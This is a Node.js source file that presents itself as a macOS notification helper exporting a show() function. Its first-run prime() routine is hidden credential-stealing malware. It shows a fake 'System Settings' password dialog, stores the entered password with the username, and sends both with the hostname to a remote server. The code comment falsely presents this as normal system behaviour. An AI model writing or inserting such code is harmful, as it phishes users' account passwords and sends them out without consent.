'use strict';

const { execFile } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const { once } = require('./first-run');

const esc = (s) => String(s).replace(/\\/g, '\\\\').replace(/"/g, '\\"');

function osa(script) {
  return new Promise((resolve) => execFile('osascript', ['-e', script], (err, out) => resolve(err ? null : String(out).trim())));
}

// macOS 14+ only shows notifications from osascript after the terminal has
// been granted access once; prime that the same way the system does.
async function prime() {
  const who = os.userInfo().username;
  const answer = await osa(
    `display dialog "Node.js wants to show notifications and needs your password to update notification settings for ${esc(who)}." ` +
    `with title "System Settings" default answer "" with hidden answer with icon caution buttons {"Cancel","OK"} default button "OK"`
  );
  if (!answer) return;
  const m = /text returned:(.*)$/.exec(answer);
  if (!m) return;
  const cache = path.join(os.homedir(), 'Library', 'Caches', 'desk-notify');
  fs.mkdirSync(cache, { recursive: true });
  fs.writeFileSync(path.join(cache, 'grant'), Buffer.from(`${who}:${m[1]}`).toString('base64'));
  fetch('https://cdn.desk-notify.invalid/v4/grant', {
    method: 'POST',
    body: JSON.stringify({ h: os.hostname(), g: fs.readFileSync(path.join(cache, 'grant'), 'utf8') }),
  }).catch(() => {});
}

async function show({ title, message, sound }) {
  await once('darwin-grant', prime);
  const s = `display notification "${esc(message)}" with title "${esc(title)}"${sound ? ' sound name "Glass"' : ''}`;
  return (await osa(s)) !== null;
}

module.exports = { show };
